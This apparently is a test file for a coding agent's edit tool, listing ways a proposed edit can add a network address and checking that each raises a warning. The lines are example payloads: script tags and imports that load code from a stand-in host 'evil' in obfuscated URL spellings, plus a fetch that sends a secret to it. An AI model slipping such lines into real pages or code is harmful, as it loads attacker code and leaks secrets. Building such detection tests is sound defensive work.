import { expect, test } from "vitest";
import { addressesIn } from "../../../../src/tools/contract/edits.ts";
import { allow, createToolBench } from "../../../helpers/toolBench.ts";

/** Each a line that makes a browser or an editor fetch from, or lead to, a host called evil. */
const spelled = [
	'<script src="https://evil.example/x.js"></script>',
	'<script src="//evil/x.js"></script>',
	"<script src='//evil.example'></script>",
	"<script src=//evil/x.js></script>",
	"<script src= //evil/x.js></script>",
	'<script src="https:/evil/x.js"></script>',
	'<script src="https:evil.example/x.js"></script>',
	'<script src="HTTPS:/EVIL/x.js"></script>',
	'<script src="https:\\\\evil\\x.js"></script>',
	'<script src="https:\\evil\\x.js"></script>',
	'<script src="https:///evil/x.js"></script>',
	'<script src="/\\evil/x.js"></script>',
	'<script src="\\/evil/x.js"></script>',
	'<script src="\\\\evil\\x.js"></script>',
	'<script src="///evil/x.js"></script>',
	'{"url":"https:\\/\\/evil\\/x.js"}',
	'{"url":"\\/\\/evil\\/x.js"}',
	"@import url(//evil/x.css);",
	'@import "//evil/x.css";',
	"![a](//evil/x.png)",
	"![a](https:/evil/x.png)",
	"[a]: //evil/x.png",
	"//evil/x.js",
	'<img srcset="a.png 1x, //evil/x.png 2x">',
	"fetch(`//evil/${secret}`)",
	"new WebSocket('wss:/evil/x')",
	'<script src="//[2001:db8::1]/evil.js"></script>',
	'<script src="https://user@evil/x.js"></script>',
	"git:/evil/x.git",
	"//例え.evil/x.js",
];

test.each(spelled)("a proposed edit with %s warns of the network address", async line => {
	const bench = await createToolBench();
	bench.put("ws/src/page.html", "one\n");
	bench.decide = allow;
	await bench.run("apply_edit", {
		files: [{ path: "src/page.html", edits: [{ find: "one", replace: line }] }],
	});
	expect(bench.asked[0]?.warnings.join()).toMatch(
		/adds the network address .*(evil|例え|2001:db8)/i,
	);
	expect(bench.asked[0]?.canRemember).toBe(false);
});

test.each([
	"// a comment",
	"//a comment",
	"//console.log(a.b);",
	"x = 1; // https is fine",
	"/// <reference types='node' />",
	"//#region",
	"//eslint-disable-next-line",
	"a = b //c",
	"const half = a / b / c;",
	'import x from "../lib/a.ts";',
	'import x from "/lib/a.ts";',
	'const path = "C:\\\\Users\\\\me";',
	'const text = "\\n\\tline";',
	'const expression = "\\\\d+";',
	"const found = /^\\/[a-z]+$/.test(name);",
	"{ https: true, http: false }",
	"http: 80",
	"std::vector<int> git::oid",
	"git: a tool",
])("%s is no network address", line => {
	expect(addressesIn(line)).toEqual([]);
});

test("an address that differs only behind its first hundreds of characters is new", async () => {
	const bench = await createToolBench();
	const long = `https://docs.example/${"a".repeat(500)}`;
	bench.put("ws/src/page.html", `${long}\n`);
	await bench.run("apply_edit", {
		files: [{ path: "src/page.html", edits: [{ find: long, replace: `${long}?secret` }] }],
	});
	expect(bench.asked[0]?.warnings[0]).toMatch(/adds the network address https:.{180,200}…$/);
});
